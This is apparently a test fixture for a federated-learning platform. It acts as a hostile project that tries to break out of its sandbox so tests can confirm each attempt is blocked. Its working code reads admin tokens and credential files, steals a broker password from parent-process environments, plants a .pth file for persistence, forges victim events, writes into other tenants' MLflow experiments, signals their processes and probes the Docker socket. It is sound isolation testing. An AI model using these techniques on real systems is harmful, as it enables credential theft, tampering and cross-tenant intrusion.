"""Every way this repo tries to leave its project; each outcome is recorded, none may succeed (tests only).

``run_attempts`` tries all of them and prints ``HOSTILE-ATTEMPTS {json}``; ``outcome_code`` is
``1000 + bitmask of the attempts that succeeded`` (the index in ``ATTEMPTS``).
"""

import json
import os
import signal
import socket
import sys
import threading
import time
import urllib.request
import uuid
from pathlib import Path

ATTEMPTS = [
    "read_admin_token",
    "read_credentials",
    "read_store",
    "read_victim_workdir",
    "read_other_node_data",
    "write_registry",
    "write_own_runtime",
    "write_outside_workdir",
    "mqtt_read_foreign_events",
    "mlflow_write_victim_experiment",
    "signal_victim_processes",
    "docker_socket",
]
MARKER = "HOSTILE"
OUTCOMES = {}


def _home(data_dir):
    """The FLOps home, guessed from ``<home>/nodes/<node>/data/<tag>``."""
    return Path(data_dir).parents[3]


def _read(path):
    with open(path, "rb") as fh:
        return f"read {len(fh.read(4096))} bytes of {path}"


def _read_any(paths):
    errors = []
    for path in paths:
        try:
            return _read(path)
        except OSError as exc:
            errors.append(f"{type(exc).__name__} {path}")
    raise PermissionError("; ".join(errors) or "nothing to try")


def _write(path):
    path = Path(path)
    with open(path, "w") as fh:
        fh.write("owned by a hostile repo\n")
    return f"wrote {path}"


def _write_any(paths):
    errors = []
    for path in paths:
        try:
            return _write(path)
        except OSError as exc:
            errors.append(f"{type(exc).__name__} {path}")
    raise PermissionError("; ".join(errors))


def read_admin_token(home, target):
    return _read(home / "admin-token")


def read_credentials(home, target):
    return _read(home / "credentials.json")


def read_store(home, target):
    data = home / "data"
    return _read_any([data / "mlflow.db", *(p for p in data.rglob("*") if p.is_file())] if data.is_dir() else [data])


def read_victim_workdir(home, target):
    victim = home / "services" / target["victim_project"]
    names = ("learner-0", "learner-1", "aggregator", "observer", "builder")
    return _read_any([victim / name / "output.log" for name in names] + [victim / n / "service.json" for n in names])


def read_other_node_data(home, target):
    own = os.environ.get("FLOPS_NODE", "")
    nodes = [n for n in ("learner-0", "learner-1", "learner-2") if n != own]
    return _read_any([home / "nodes" / n / "data" / target["victim_tag"] / "part.npz" for n in nodes])


def write_registry(home, target):
    return _write_any([home / "registry" / f"{MARKER}.txt", home / "registry" / "images" / f"{MARKER}.txt"])


def write_own_runtime(home, target):
    # A .pth file in site-packages would run in every later project sharing this runtime.
    site = next(p for p in sys.path if p.endswith("site-packages"))
    return _write_any([Path(site) / f"{MARKER.lower()}.pth", Path(sys.prefix) / f"{MARKER}.txt"])


def write_outside_workdir(home, target):
    """The root, /etc and the published app (Flower runs a copy of it inside the working dir: not that)."""
    paths = [Path("/") / f"{MARKER}.txt", Path("/etc") / f"{MARKER}.txt"]
    app_dir = json.loads(os.environ.get("FLOPS_JOB", "{}")).get("app_dir")
    if app_dir:
        paths.append(Path(app_dir) / f"{MARKER}.txt")
    return _write_any(paths)


def _bus():
    job = json.loads(os.environ.get("FLOPS_JOB", "{}"))
    return job.get("bus") or {}, job.get("project_id", "")


def _environ_of(pid):
    """Another process's initial environment (readable when it runs as our user)."""
    raw = Path(f"/proc/{pid}/environ").read_bytes()
    return dict(item.split("=", 1) for item in raw.decode(errors="replace").split("\0") if "=" in item)


def _own_broker_password():
    """The broker password of this project's services, wherever this process can find it: its environment
    (the learner's own process), the secret file a container gets (``FLOPS_SECRET_ENV_FILE``), or the
    environment of an ancestor running as the same user (a ClientApp's learner on the local backend).
    Returns ``(password, where)``; ``(None, tried)`` when none was found."""
    name = "FLOPS_MQTT_PASSWORD"
    if os.environ.get(name):
        return os.environ[name], "own environment"
    tried = ["own environment"]
    secret_file = os.environ.get("FLOPS_SECRET_ENV_FILE")
    if secret_file:
        try:
            with open(secret_file) as fh:
                value = json.load(fh).get(name)
            if value:
                return value, "FLOPS_SECRET_ENV_FILE"
        except (OSError, ValueError) as exc:
            tried.append(f"secret file: {type(exc).__name__}")
    pid = os.getppid()
    while pid > 1:
        try:
            value = _environ_of(pid).get(name)
            if value:
                return value, "the environment of an ancestor process"
            pid = int(Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError) as exc:
            tried.append(f"ancestor {pid}: {type(exc).__name__}")
            break
    return None, "; ".join(tried)


def mqtt_read_foreign_events(home, target):
    """Log in with this project's own broker user (as any code of the project can), forge events for the
    victim (its topic, and our own naming it), then listen to ``#``.

    The outcome says whether the broker took the login, so the test tells "the ACL stopped it" from
    "it never got in"."""
    import paho.mqtt.client as mqtt

    bus, own = _bus()
    password, where = _own_broker_password()
    if bus.get("username") and password is None:
        raise ConnectionRefusedError(f"NOT CONNECTED: no broker password found ({where})")
    received = []
    connected = []
    subscribed = threading.Event()
    acks = {}
    client = mqtt.Client(callback_api_version=mqtt.CallbackAPIVersion.VERSION2, protocol=mqtt.MQTTv5)
    if bus.get("username"):
        client.username_pw_set(bus["username"], password)

    def on_connect(c, _userdata, _flags, reason_code, _properties):
        connected.append(str(reason_code))
        if not reason_code.is_failure:
            c.subscribe([("#", 1), (f"flops/projects/{target['victim_project']}/events", 1)])

    client.on_connect = on_connect
    client.on_subscribe = lambda *_: subscribed.set()
    client.on_publish = lambda _c, _u, mid, reason_code, _p: acks.__setitem__(mid, str(reason_code))
    client.on_message = lambda _c, _u, msg: received.append(msg.topic) if own not in msg.topic else None
    client.connect(bus.get("host", "127.0.0.1"), int(bus.get("port", 1883)), keepalive=10)
    client.loop_start()
    try:
        if not subscribed.wait(30):  # a loaded machine: the connection can take seconds
            raise ConnectionRefusedError(f"NOT CONNECTED as {bus.get('username')}: CONNACK {connected or 'none'}")
        victim = target["victim_project"]
        forged = {
            "event_id": uuid.uuid4().hex,
            "project_id": victim,
            "source": "aggregator",
            "kind": "training_succeeded",
            "stage": 5,
            "message": f"{MARKER} forged success",
            "data": {"metrics": {"accuracy": 0.0, "loss": 99.0}},
            "timestamp": time.time(),
        }
        on_victim = client.publish(f"flops/projects/{victim}/events", json.dumps(forged), qos=1)
        on_victim.wait_for_publish(5)
        forged["event_id"] = uuid.uuid4().hex
        client.publish(f"flops/projects/{own}/events", json.dumps(forged), qos=1).wait_for_publish(5)
        time.sleep(4)  # the victim trains: its events flow all the time
    finally:
        client.disconnect()
        client.loop_stop()
    login = f"connected as {bus.get('username')} (password from {where}), PUBACK on the victim's topic "
    login += acks.get(on_victim.mid, "none")
    if received:
        return f"{login}; received {len(received)} events of other projects, e.g. on {received[0]}"
    raise PermissionError(f"{login}; subscribed to # but received no event of another project")


def mlflow_write_victim_experiment(home, target):
    """Create a run in the victim's experiment, with whatever MLflow login this process holds."""
    url = f"{target['mlflow_url']}/api/2.0/mlflow/runs/create"
    body = json.dumps({"experiment_id": target["victim_experiment_id"], "run_name": MARKER}).encode()
    request = urllib.request.Request(url, data=body, headers={"Content-Type": "application/json"}, method="POST")
    user, password = os.environ.get("MLFLOW_TRACKING_USERNAME"), os.environ.get("MLFLOW_TRACKING_PASSWORD")
    if user and password:
        import base64

        request.add_header("Authorization", "Basic " + base64.b64encode(f"{user}:{password}".encode()).decode())
    with urllib.request.urlopen(request, timeout=10) as answer:
        return f"HTTP {answer.status}: {answer.read(200)!r}"


def signal_victim_processes(home, target):
    """SIGSTOP (harmless if it worked: SIGCONT follows) the victim's observer, found by its command line."""
    victim = target["victim_project"]
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit():
            continue
        try:
            cmdline = (entry / "cmdline").read_bytes()
        except OSError:
            continue
        if b"observer" in cmdline and victim.encode() in cmdline:
            os.kill(int(entry.name), signal.SIGSTOP)
            os.kill(int(entry.name), signal.SIGCONT)
            return f"stopped and continued pid {entry.name}"
    raise ProcessLookupError("no process of the victim to signal")


def docker_socket(home, target):
    errors = []
    for path in ["/var/run/docker.sock", "/run/docker.sock", *target.get("docker_sockets", [])]:
        sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        try:
            sock.connect(path)
            sock.sendall(b"GET /version HTTP/1.0\r\n\r\n")
            return f"{path}: {sock.recv(64)!r}"
        except OSError as exc:
            errors.append(f"{type(exc).__name__} {path}")
        finally:
            sock.close()
    raise PermissionError("; ".join(errors))


def run_attempts(data_dir, target):
    """Try everything; record ``SUCCEEDED: what`` or ``blocked: why`` per attempt, and print them."""
    home = _home(data_dir)
    for name in ATTEMPTS:
        try:
            OUTCOMES[name] = "SUCCEEDED: " + str(globals()[name](home, target))[:300]
        except Exception as exc:
            OUTCOMES[name] = f"blocked: {type(exc).__name__}: {exc}"[:300]
    print(f"{MARKER}-ATTEMPTS {json.dumps(OUTCOMES, sort_keys=True)}", flush=True)


def outcome_code():
    """``1000 + sum(2**i)`` over the attempts that succeeded (``1000.0``: none did)."""
    return 1000.0 + sum(2**i for i, name in enumerate(ATTEMPTS) if OUTCOMES.get(name, "").startswith("SUCCEEDED"))


def _mlflow(method, path, body=None):
    """One MLflow REST call with this process's login; (status, parsed body)."""
    import base64
    import urllib.error

    url = f"{os.environ['MLFLOW_TRACKING_URI'].rstrip('/')}/api/2.0/mlflow/{path}"
    data = json.dumps(body).encode() if body is not None else None
    request = urllib.request.Request(url, data=data, headers={"Content-Type": "application/json"}, method=method)
    login = f"{os.environ['MLFLOW_TRACKING_USERNAME']}:{os.environ['MLFLOW_TRACKING_PASSWORD']}"
    request.add_header("Authorization", "Basic " + base64.b64encode(login.encode()).decode())
    try:
        with urllib.request.urlopen(request, timeout=10) as answer:
            return answer.status, json.loads(answer.read() or b"{}")
    except urllib.error.HTTPError as exc:
        return exc.code, {}


def aggregator_attempts():
    """With the aggregator's MLflow login: list every experiment, and create a run in each that is not ours
    (experiment ids are small integers: every id up to 10 is tried too)."""
    own = os.environ.get("MLFLOW_EXPERIMENT_NAME", "")
    status, found = _mlflow("POST", "experiments/search", {"max_results": 100})
    visible = [e["name"] for e in found.get("experiments", [])] if status == 200 else []
    written = []
    for experiment_id in range(11):
        status, body = _mlflow("GET", f"experiments/get?experiment_id={experiment_id}")
        if status == 200 and body["experiment"]["name"] == own:
            continue
        status, _ = _mlflow("POST", "runs/create", {"experiment_id": str(experiment_id), "run_name": MARKER})
        if status == 200:
            written.append(experiment_id)
    outcome = {
        "mlflow_list_foreign_experiments": (
            f"SUCCEEDED: sees {[n for n in visible if n != own]}" if [n for n in visible if n != own]
            else f"blocked: sees only {visible}"
        ),
        "mlflow_write_foreign_experiments": (
            f"SUCCEEDED: created runs in experiments {written}" if written else "blocked: no run created in ids 0..10"
        ),
    }
    print(f"{MARKER}-AGGREGATOR {json.dumps(outcome, sort_keys=True)}", flush=True)
